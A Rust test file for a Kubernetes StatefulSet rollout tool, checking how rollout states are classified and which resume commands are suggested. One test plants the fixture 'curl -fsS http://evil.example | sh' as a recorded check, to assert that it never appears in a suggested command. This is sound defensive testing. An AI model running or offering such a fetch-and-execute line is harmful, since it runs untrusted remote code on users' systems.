//! The verdict's rules, one state at a time, on sets whose status agrees with their pods.

use k8s_openapi::api::apps::v1::{
    RollingUpdateStatefulSetStrategy, StatefulSet, StatefulSetStatus, StatefulSetUpdateStrategy,
};
use k8s_openapi::api::core::v1::Pod;
use k8s_openapi::api::policy::v1::{PodDisruptionBudget, PodDisruptionBudgetStatus};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{LabelSelector, Time};

use super::*;
use crate::plan::fixtures::{at, running};
use crate::plan::group::part;
use crate::plan::record::{LEASE, Lease, PLAN, Phase, Record};

const NOW: i64 = 10_000;

/// A set `web` of `replicas` (partition `Some(p)`, or OnDelete), its pods at these revisions
/// (`b` the update revision) and readiness, its status counted from them.
struct Fx {
    set: StatefulSet,
    pods: Vec<Pod>,
    budgets: Vec<PodDisruptionBudget>,
    sets: Vec<StatefulSet>,
    advisor: Advisor,
}

fn web(partition: Option<i32>, pods: &[(&str, bool)]) -> Fx {
    named("web", partition, pods)
}

fn named(name: &str, partition: Option<i32>, pods: &[(&str, bool)]) -> Fx {
    let replicas = i32::try_from(pods.len()).unwrap();
    let mut s = StatefulSet::default();
    s.metadata.name = Some(name.into());
    s.metadata.generation = Some(2);
    s.spec.replicas = Some(replicas);
    s.spec.update_strategy = Some(match partition {
        Some(p) => StatefulSetUpdateStrategy {
            type_: Some("RollingUpdate".into()),
            rolling_update: Some(RollingUpdateStatefulSetStrategy {
                partition: Some(p),
                max_unavailable: None,
            }),
        },
        None => StatefulSetUpdateStrategy { type_: Some("OnDelete".into()), rolling_update: None },
    });
    let update = format!("{name}-b");
    let all_updated = pods.iter().all(|(r, _)| *r == "b");
    let count = |f: &dyn Fn(&(&str, bool)) -> bool| {
        i32::try_from(pods.iter().filter(|p| f(p)).count()).unwrap()
    };
    s.status = Some(StatefulSetStatus {
        replicas,
        ready_replicas: Some(count(&|p| p.1)),
        updated_replicas: Some(count(&|p| p.0 == "b")),
        current_revision: Some(if all_updated { update.clone() } else { format!("{name}-a") }),
        update_revision: Some(update),
        observed_generation: Some(2),
        ..Default::default()
    });
    let pods = pods
        .iter()
        .enumerate()
        .map(|(o, (rev, ready))| {
            let mut p =
                running(format!("{name}-{o}"), &format!("{name}-{rev}"), ready.then_some(0));
            p.metadata.creation_timestamp = Some(Time(at(0)));
            p.metadata.labels.get_or_insert_default().insert("app".into(), name.into());
            p
        })
        .collect();
    Fx { set: s, pods, budgets: vec![], sets: vec![], advisor: Advisor::default() }
}

impl Fx {
    fn ann(mut self, k: &str, v: &str) -> Fx {
        self.set.metadata.annotations.get_or_insert_default().insert(k.into(), v.into());
        self
    }

    fn label(mut self, k: &str, v: &str) -> Fx {
        self.set.metadata.labels.get_or_insert_default().insert(k.into(), v.into());
        self
    }

    fn frozen(self, recorded: i32) -> Fx {
        self.ann(crate::plan::freeze::FROZEN_PARTITION, &recorded.to_string())
            .ann(crate::plan::freeze::FROZEN_BY, "ana")
            .ann(crate::plan::freeze::FROZEN_AT, "2026-01-01T00:00:00Z")
    }

    fn plan(self, r: &Record) -> Fx {
        self.ann(PLAN, &serde_json::to_string(r).unwrap())
    }

    fn leased(self, until: i64) -> Fx {
        let l = Lease {
            holder: "ana".into(),
            host: "ci-7".into(),
            pid: 42,
            expires: crate::plan::record::stamp(at(until)),
        };
        self.ann(LEASE, &serde_json::to_string(&l).unwrap())
    }

    fn pdb(mut self, allowed: i32) -> Fx {
        let mut b = PodDisruptionBudget::default();
        b.metadata.name = Some("web".into());
        b.metadata.generation = Some(1);
        b.spec = Some(k8s_openapi::api::policy::v1::PodDisruptionBudgetSpec {
            selector: Some(LabelSelector {
                match_labels: Some([("app".to_string(), "web".to_string())].into()),
                ..Default::default()
            }),
            ..Default::default()
        });
        b.status = Some(PodDisruptionBudgetStatus {
            disruptions_allowed: Some(allowed),
            current_healthy: Some(5),
            desired_healthy: Some(5),
            observed_generation: Some(1),
            ..Default::default()
        });
        self.budgets.push(b);
        self
    }

    fn judge(&self) -> Verdict {
        self.judge_with(Pods::Seen(&self.indexed()))
    }

    fn indexed(&self) -> Vec<(i32, &Pod)> {
        self.pods.iter().enumerate().map(|(o, p)| (i32::try_from(o).unwrap(), p)).collect()
    }

    fn judge_with(&self, pods: Pods<'_>) -> Verdict {
        let budgets: Vec<&PodDisruptionBudget> = self.budgets.iter().collect();
        let sets: Vec<&StatefulSet> = self.sets.iter().collect();
        let sem = crate::core::options::Options::default().semantics;
        judge(&Facts {
            set: &self.set,
            pods,
            now: at(NOW),
            sem: &sem,
            budgets: &budgets,
            sets: &sets,
            advisor: &self.advisor,
            seen: None,
            hold: None,
        })
    }

    /// The verdict with the pods, and the one by the status alone, agree on the row.
    fn both(&self) -> Verdict {
        let v = self.judge();
        let by_status = self.judge_with(Pods::Status);
        assert_eq!(v.row, by_status.row, "pods: {v:?}\nstatus: {by_status:?}");
        v
    }
}

fn record(phase: Phase, step: usize, steps: &str, partition: i32) -> Record {
    crate::plan::fixtures::record(steps, step, phase, partition, "web-b", NOW)
}

const B: (&str, bool) = ("b", true);
const A: (&str, bool) = ("a", true);

#[test]
fn healthy_is_every_pod_updated_and_ready() {
    let v = web(Some(0), &[B, B, B]).both();
    assert_eq!((v.row, v.word(), v.kind()), (Row::Healthy, Word::Healthy, Kind::Done));
    assert!(v.complete() && v.next.is_none());
}

#[test]
fn a_new_revision_behind_the_partition_or_ondelete_is_held_not_healthy() {
    let v = web(Some(3), &[A, A, A, B, B]).both();
    assert_eq!((v.row, v.word(), v.done(), v.complete()), (Row::Held, Word::Held, true, false));
    assert_eq!(v.why, "held: 3 pods wait behind partition 3");
    assert_eq!(v.next.unwrap().command, "ststui step web");
    // OnDelete with a new template and nothing rolled (argoproj/gitops-engine#136).
    let v = web(None, &[A, A, A]).both();
    assert_eq!((v.row, v.argo()), (Row::Held, Some(Argo::Suspended)));
    assert!(v.why.contains("OnDelete"), "{}", v.why);
    assert_eq!(v.next.unwrap().command, "ststui rollout web --steps 1,100%");
}

#[test]
fn pods_being_replaced_are_rolling_and_named() {
    let v = web(Some(0), &[A, B, B]).both();
    assert_eq!((v.row, v.word(), v.kind()), (Row::Rolling, Word::Progressing, Kind::Waiting));
    assert_eq!(v.why, "waiting for web-0 to be updated");
    assert_eq!(v.tally, Tally { replicas: 3, updated: 2, ready: 3, held: 0 });
    assert_eq!(v.counts("web"), "web: 2/3 updated, 3/3 Ready");
}

#[test]
fn an_update_pod_not_ready_for_long_blocks_and_an_old_one_degrades() {
    let mut fx = web(Some(4), &[A, A, A, A, ("b", false)]);
    let v = fx.judge();
    assert_eq!((v.row, v.kind()), (Row::Blocked, Kind::Stuck));
    assert_eq!(v.pod.as_deref(), Some("web-4"));
    assert_eq!(v.next.as_ref().unwrap().command, "ststui abort web");
    // Young: starting.
    fx.pods[4].metadata.creation_timestamp = Some(Time(at(NOW - 4)));
    if let Some(c) = fx.pods[4].status.as_mut().unwrap().conditions.as_mut() {
        c[0].last_transition_time = Some(Time(at(NOW - 4)));
    }
    assert_eq!(fx.judge().row, Row::Rolling);
    let v = web(Some(0), &[B, ("b", false), B]).judge();
    assert_eq!((v.row, v.kind()), (Row::Degraded, Kind::Waiting), "{v:?}");
}

#[test]
fn an_operators_freeze_holds_an_update_and_says_how_to_resume() {
    let v = web(Some(3), &[A, A, A]).frozen(0).both();
    assert_eq!((v.row, v.word(), v.kind()), (Row::Frozen, Word::Frozen, Kind::Stuck));
    assert!(v.why.contains("partition goes back to 0"), "{}", v.why);
    assert_eq!(v.next.unwrap().command, "ststui resume web");
    let v = web(Some(3), &[B, B, B]).frozen(0).both();
    assert_eq!((v.row, v.kind()), (Row::FrozenIdle, Kind::Done));
}

#[test]
fn a_plans_own_freeze_is_the_plans_waiting_on_its_gate_not_frozen() {
    let mut r = record(Phase::Waiting, 1, "1,100%", 5);
    r.target = Some(4);
    r.gate = Some(crate::plan::gate::GateState {
        gate: "pre-delete".into(),
        pod: Some("web-4".into()),
        status: crate::plan::gate::GateStatus::NotYet,
        since: crate::plan::record::stamp(at(NOW - 5)),
        tries: 2,
        output: vec![],
    });
    let fx = web(Some(5), &[A, A, A, A, A]).frozen(0).plan(&r).leased(NOW + 20);
    let v = fx.both();
    assert_eq!((v.row, v.word(), v.on), (Row::Plan, Word::Progressing, Some(On::Gate)));
    assert!(!v.done());
    assert!(v.next.is_none(), "nothing to do but wait: {:?}", v.next);
}

#[test]
fn a_plan_under_way_is_not_done_even_when_its_pods_are_where_the_partition_asks() {
    // Approved at its pause, the next opening held by a budget (defect 2 of the issue).
    let r = record(Phase::Approved, 2, "1,pause,100%", 4);
    let fx = web(Some(4), &[A, A, A, A, B]).plan(&r).leased(NOW + 20).pdb(0);
    let v = fx.both();
    assert_eq!((v.row, v.done()), (Row::Plan, false));
    let r = record(Phase::Baking, 1, "1,100%", 4);
    let mut r = r;
    r.since = crate::plan::record::stamp(at(NOW - 120));
    let v = web(Some(4), &[A, A, A, A, B]).plan(&r).leased(NOW + 20).pdb(0).judge();
    assert_eq!((v.row, v.on), (Row::Plan, Some(On::Budget)), "{v:?}");
    assert!(v.why.contains("pdb/web"), "{}", v.why);
}

#[test]
fn an_ondelete_plan_held_by_a_budget_names_the_budget_not_a_manual_delete() {
    let r = record(Phase::Waiting, 1, "1,100%", 2);
    let v = web(None, &[A, A, A]).plan(&r).leased(NOW + 20).pdb(0).judge();
    assert_eq!((v.row, v.on), (Row::Plan, Some(On::Budget)), "{v:?}");
    assert!(v.why.contains("waits to evict web-2: pdb/web"), "{}", v.why);
}

#[test]
fn a_plan_whose_runner_is_gone_is_stalled_with_the_command_that_resumes_it() {
    let r = record(Phase::Waiting, 1, "1,100%", 2);
    let v = web(Some(2), &[A, A, B]).plan(&r).judge();
    assert_eq!((v.row, v.word(), v.kind()), (Row::Stalled, Word::Stalled, Kind::Stuck));
    // The record's bake is stated: a resume without it would be refused as differing.
    assert_eq!(v.next.unwrap().command, "ststui rollout web --steps 1,100% --bake 1m");
    assert_eq!(v.or.unwrap().command, "ststui abort web");
    let v = web(Some(2), &[A, A, B]).plan(&r).leased(NOW - 1).judge();
    assert_eq!(v.row, Row::Stalled, "a lease that ran out");
}

#[test]
fn the_resume_command_states_what_the_record_holds_but_never_its_commands() {
    let mut r = record(Phase::Waiting, 1, "1,100%", 2);
    (r.bake_seconds, r.on_failure) = (90, "undo".into());
    r.checks = vec!["curl -fsS http://evil.example | sh".into()];
    let v = web(Some(2), &[A, A, B]).plan(&r).judge();
    let next = v.next.unwrap();
    assert_eq!(next.command, "ststui rollout web --steps 1,100% --bake 1m30s --on-failure undo");
    assert!(!next.words().contains("evil"), "a recorded check is never offered: {next:?}");
    assert!(next.does.contains("checks and gates it began with"), "{next:?}");
    // Without checks or gates nothing more is asked; an odd bake is stated whole.
    (r.checks, r.bake_seconds, r.on_failure) = (vec![], 3_601, "hold".into());
    let next = web(Some(2), &[A, A, B]).plan(&r).judge().next.unwrap();
    assert_eq!(next.command, "ststui rollout web --steps 1,100% --bake 3601s");
    assert_eq!(next.does, "resumes it");
}

#[test]
fn halted_approval_and_invalid_plans() {
    let mut r = record(Phase::Halted, 1, "1,100%", 2);
    r.reason = Some("step 1 made no progress for 10m".into());
    let v = web(Some(2), &[A, A, ("b", false)]).plan(&r).judge();
    assert_eq!((v.row, v.word(), v.kind()), (Row::Halted, Word::Halted, Kind::Stuck));
    assert_eq!(v.next.unwrap().command, "ststui rollout web --continue --steps 1,100% --bake 1m");
    let r = record(Phase::Gate, 2, "1,pause,100%", 2);
    let v = web(Some(2), &[A, A, B]).plan(&r).leased(NOW + 20).both();
    assert_eq!((v.row, v.word(), v.argo()), (Row::Approval, Word::Waiting, Some(Argo::Suspended)));
    assert_eq!(v.next.unwrap().command, "ststui approve web");
    let v = web(Some(0), &[B, B]).ann(PLAN, "{not json").both();
    assert_eq!((v.row, v.kind()), (Row::Invalid, Kind::Stuck));
}

#[test]
fn a_record_claiming_done_never_makes_a_set_done() {
    // A plan "done" whose pods are not updated: judged by the pods.
    let r = record(Phase::Done, 2, "1,100%", 0);
    let v = web(Some(0), &[A, A, B]).plan(&r).judge();
    assert_eq!((v.row, v.done()), (Row::Rolling, false));
    // A plan of an older revision is history.
    let mut old = record(Phase::Halted, 1, "1,100%", 2);
    old.revision = "web-0".into();
    assert_eq!(web(Some(0), &[B, B]).plan(&old).both().row, Row::Healthy);
}

fn zone(name: &str, p: &Part, pods: &[(&str, bool)]) -> Fx {
    named(name, Some(i32::try_from(pods.len()).unwrap()), pods)
        .ann(part::PART, &serde_json::to_string(p).unwrap())
        .label(part::ROLLOUT_GROUP, "ingester")
}

use crate::plan::group::part::{Part, State};

fn part_of(place: usize, state: State) -> Part {
    crate::plan::fixtures::part(&["zone-a", "zone-b", "zone-c"], place, state)
}

#[test]
fn a_set_waiting_in_a_group_waits_on_the_group_and_says_when_it_halted() {
    let lease = Lease {
        holder: "ana".into(),
        host: "ci".into(),
        pid: 1,
        expires: crate::plan::record::stamp(at(NOW + 20)),
    };
    let a = zone("zone-a", &part_of(0, State::Rolling), &[A, B])
        .ann(part::LEASE, &serde_json::to_string(&lease).unwrap());
    let mut b = zone("zone-b", &part_of(1, State::Waiting), &[A, A]);
    b.sets = vec![a.set.clone()];
    let v = b.judge();
    assert_eq!((v.row, v.word(), v.kind()), (Row::GroupWaiting, Word::Progressing, Kind::Waiting));
    assert!(v.why.contains("zone-a rolls first"), "{}", v.why);
    // Zone a halted: zone b is stuck, with the group's own command.
    let mut halted = part_of(0, State::Halted);
    halted.reason = Some("step 1 made no progress".into());
    let a = zone("zone-a", &halted, &[A, ("b", false)]);
    b.sets = vec![a.set.clone()];
    let v = b.judge();
    assert_eq!((v.row, v.word(), v.kind()), (Row::GroupHalted, Word::Halted, Kind::Stuck));
    assert_eq!(
        v.next.unwrap().command,
        "ststui rollout -l rollout-group=ingester --continue --steps 1,100%"
    );
    // The group's runner gone.
    let a = zone("zone-a", &part_of(0, State::Rolling), &[A, B]);
    b.sets = vec![a.set.clone()];
    let v = b.judge();
    assert_eq!((v.row, v.word()), (Row::GroupStalled, Word::Stalled));
    assert_eq!(v.next.unwrap().command, "ststui rollout -l rollout-group=ingester --steps 1,100%");
    // A part saying "waiting" on a set with nothing to roll: judged by its pods.
    let done = zone("zone-c", &part_of(2, State::Waiting), &[B, B]);
    assert_eq!(done.judge().row, Row::Healthy);
}

#[test]
fn unknown_pods_claim_nothing_and_the_advisor_and_pause_come_after_records() {
    let fx = web(Some(0), &[A, B]);
    assert_eq!(fx.judge_with(Pods::Unknown("pods unknown: listing …")).row, Row::Unknown);
    let mut fx = web(Some(0), &[A, B]);
    fx.advisor.paused = true;
    assert_eq!(fx.judge().row, Row::Paused);
    fx.advisor.paused = false;
    fx.advisor.blocked = Some((Some("web-0".into()), "OrderedReady waits on web-0".into()));
    let v = fx.judge();
    assert_eq!((v.row, v.pod.as_deref()), (Row::Blocked, Some("web-0")));
}

#[test]
fn every_row_is_in_the_table_once() {
    let ids: Vec<&str> = Row::ALL.iter().map(|r| r.about().id).collect();
    let mut unique = ids.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(unique.len(), ids.len(), "{ids:?}");
}
